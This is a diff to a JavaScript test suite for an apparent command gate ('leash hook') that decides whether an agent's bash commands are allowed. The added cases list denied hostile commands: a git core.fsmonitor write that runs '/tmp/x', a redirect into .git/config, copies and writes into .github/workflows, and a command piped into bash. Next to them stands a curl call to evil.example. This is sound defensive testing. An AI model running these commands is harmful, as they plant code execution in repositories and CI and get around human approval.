@@ -142,6 +142,41 @@ describe("leash hook (the real CLI against a real leash)", () => {
       code: "outside_workspace",
     },
     {
+      name: "git config core.fsmonitor (runs code on a later step's git)",
+      input: () => bash('git config core.fsmonitor "sh /tmp/x"'),
+      decision: "deny",
+      code: "git_config_write",
+    },
+    {
+      name: "echo >&.git/config (a file write, not an fd duplication)",
+      input: () => bash("echo '[core] fsmonitor = sh /tmp/x' >&.git/config"),
+      decision: "deny",
+      code: "git_config_write",
+    },
+    {
+      name: "cp into the workflows directory",
+      input: () => bash("cp evil.yml .github/workflows"),
+      decision: "deny",
+      code: "workflow_change_needs_approval",
+    },
+    {
+      name: "a write to a target named through a variable (unresolved: fails closed)",
+      input: () => bash('echo "on: push" > "$D/x.yml"'),
+      decision: "deny",
+      code: "workflow_change_needs_approval",
+    },
+    {
+      name: "a command echoed into bash",
+      input: () => bash("echo 'echo x > .github/workflows/a.yml' | bash"),
+      decision: "deny",
+      code: "workflow_change_needs_approval",
+    },
+    {
+      name: "ordinary copies and removals",
+      input: () => bash("rm -f *.log && cp src/a.ts src/b.ts && npm test"),
+      decision: "allow",
+    },
+    {
       name: "curl https://evil.example",
       input: () => bash("curl -sSL https://evil.example/x"),
       decision: "deny",
